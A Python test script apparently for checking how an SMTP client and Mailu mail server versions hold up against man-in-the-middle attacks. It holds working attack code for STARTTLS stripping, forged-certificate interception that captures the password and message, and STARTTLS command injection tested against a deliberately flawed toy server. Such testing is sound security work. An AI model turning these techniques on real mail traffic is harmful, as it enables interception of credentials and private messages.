# /// script
# requires-python = ">=3.11"
# dependencies = ["aiosmtplib>=5,<6"]
# ///
# %% world
import asyncio
import base64
import os
import socket
import ssl
import subprocess
import tempfile
import threading
from email.message import EmailMessage

import aiosmtplib

NAME, USER, PASSWORD = (
    "mail.example.com",
    "user@example.com",
    os.environ["SMTP_PASSWORD"],
)
message = EmailMessage()
message["From"], message["To"], message["Subject"] = (
    USER,
    "friend@example.com",
    "Secret plan",
)
message.set_content("We meet at noon.")


def front(project: str) -> str:
    """The address at which the front of a compose project is published."""
    label = "label=com.docker.compose"
    filters = ["-f", f"{label}.project={project}", "-f", f"{label}.service=front"]
    front = subprocess.check_output(["docker", "ps", "-q", *filters], text=True).strip()
    published = subprocess.check_output(["docker", "port", front, "465"], text=True)
    return published.split(":")[0]


MAILU = front("mailu587-submission")  # 2024.06, with 587 in PORTS
loop = asyncio.new_event_loop()  # of the attacker; a notebook has one of its own
threading.Thread(target=loop.run_forever, daemon=True).start()


def run(task):
    return asyncio.run_coroutine_threadsafe(task, loop).result(timeout=20)


# %% attacker
async def pass_on(source, target, copy=None):
    data = b"..."
    while data:
        data = await source.read(65536)
        target.write(data)
        if copy is not None:
            copy += data
    target.close()


async def both_ways(client, server, copy):
    there = pass_on(client[0], server[1], copy)
    await asyncio.gather(there, pass_on(server[0], client[1]))


async def strip(client, copy):
    """Speak STARTTLS oneself; the client gets the answers from inside TLS.

    They offer AUTH, and no STARTTLS.
    """
    server = await asyncio.open_connection(MAILU, 587)
    client[1].write(await server[0].readline())
    ehlo = await client[0].readline()
    copy += ehlo
    server[1].write(ehlo)
    while (await server[0].readline())[3:4] == b"-":
        pass
    server[1].write(b"STARTTLS\r\n")
    await server[0].readline()
    await server[1].start_tls(ssl.create_default_context(), server_hostname=NAME)
    server[1].write(ehlo)
    await both_ways(client, server, copy)


async def listen(client, copy):
    await both_ways(client, await asyncio.open_connection(MAILU, 465), copy)


async def forge(client, copy):
    """The client's TLS ends here; another one leads on."""
    tls = {"ssl": ssl.create_default_context(), "server_hostname": NAME}
    await both_ways(client, await asyncio.open_connection(MAILU, 465, **tls), copy)


async def attacked(attack, own_tls=None, **options):
    """Send the message through the attacker: what becomes of it, what he copies."""
    copy = bytearray()

    async def caught(*client):
        await attack(client, copy)

    attacker = await asyncio.start_server(caught, NAME, 0, ssl=own_tls)
    options |= {"hostname": NAME, "port": attacker.sockets[0].getsockname()[1]}
    options |= {"username": USER, "password": PASSWORD, "timeout": 10}
    try:
        await aiosmtplib.send(message, **options)
        return "sent", bytes(copy)
    except aiosmtplib.SMTPException as error:
        return f"{type(error).__name__}: {error}", bytes(copy)
    finally:
        attacker.close()


def report(result: str, copy: bytes) -> None:
    auth = base64.b64encode(f"\0{USER}\0{PASSWORD}".encode())
    kind = "TLS" if copy[:1] == b"\x16" else "clear text"
    print("the client says:           ", result)
    print("the attacker has copied:   ", kind if copy else "nothing")
    print("the password is among it:  ", auth in copy)
    print("the message is among it:   ", b"We meet at noon." in copy)


# %% opportunistic
report(*run(attacked(strip)))  # without start_tls: TLS if it is offered

# %% strict
report(*run(attacked(strip, start_tls=True)))

# %% implicit
report(*run(attacked(listen, use_tls=True)))

# %% forged
folder = tempfile.mkdtemp()
openssl = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes"]
openssl += ["-subj", f"/CN={NAME}", "-addext", f"subjectAltName=DNS:{NAME}"]
openssl += ["-keyout", f"{folder}/key", "-out", f"{folder}/certificate"]
subprocess.run(openssl, check=True, capture_output=True)
forged = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
forged.load_cert_chain(f"{folder}/certificate", f"{folder}/key")

print("465, the certificate is checked")
report(*run(attacked(forge, forged, use_tls=True)))
print("465, the certificate is not checked")
report(*run(attacked(forge, forged, use_tls=True, validate_certs=False)))


# %% toy
def toy(listener: socket.socket, flaw: bool) -> None:
    """An SMTP server for one client. With the flaw it keeps what it read before the handshake."""
    sock, buffer, command = listener.accept()[0], b"", b""
    sock.sendall(b"220 toy\r\n")
    while command != b"QUIT":
        while b"\r\n" not in buffer:
            buffer += sock.recv(4096)
        command, _, buffer = buffer.partition(b"\r\n")
        sock.sendall(b"250 done: " + command + b"\r\n")
        if command == b"STARTTLS":
            sock = forged.wrap_socket(sock, server_side=True)
            if not flaw:
                buffer = b""
    sock.close()


def toy_at(flaw: bool) -> tuple[str, int]:
    listener = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=toy, args=(listener, flaw), daemon=True).start()
    return listener.getsockname()


# %% inject
def reply(sock: socket.socket) -> str:
    """One reply, and not a byte more."""
    line = ""
    while not line.endswith("\n"):
        line += sock.recv(1).decode()
    return line if line[3] == " " else reply(sock)


def inject(address: tuple[str, int], tls: ssl.SSLContext) -> list[str]:
    """The replies under TLS to a client that says NOOP and QUIT there. The RSET is the attacker's, before TLS."""
    with socket.create_connection(address, timeout=5) as sock:
        reply(sock)
        sock.sendall(b"EHLO client.example.com\r\n")
        reply(sock)
        sock.sendall(b"STARTTLS\r\n" + b"RSET\r\n")
        reply(sock)
        try:
            with tls.wrap_socket(sock, server_hostname=NAME) as inside:
                inside.sendall(b"NOOP\r\nQUIT\r\n")
                with inside.makefile("r") as replies:
                    return [line.strip() for line in replies]
        except OSError:
            return ["no TLS: the handshake failed"]


public = ssl.create_default_context()
toys = ssl.create_default_context(cafile=f"{folder}/certificate")
for name, address, tls in (
    ("toy with the flaw", toy_at(flaw=True), toys),
    ("toy without it", toy_at(flaw=False), toys),
    ("2024.06", (MAILU, 587), public),
    ("2.0", (front("mailu587-legacy"), 587), public),
):
    print(f"{name}:", *inject(address, tls), sep="\n  ")
